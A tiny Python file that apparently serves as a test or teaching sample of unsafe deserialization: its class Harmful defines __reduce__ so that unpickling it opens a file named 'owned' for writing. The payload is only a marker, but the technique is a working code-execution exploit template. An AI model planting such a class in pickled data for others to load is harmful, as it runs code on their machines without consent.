"""A pickle that runs code when it is opened."""


class Harmful:
    """Unpickling it makes a file."""

    def __reduce__(self):
        return open, ("owned", "w")
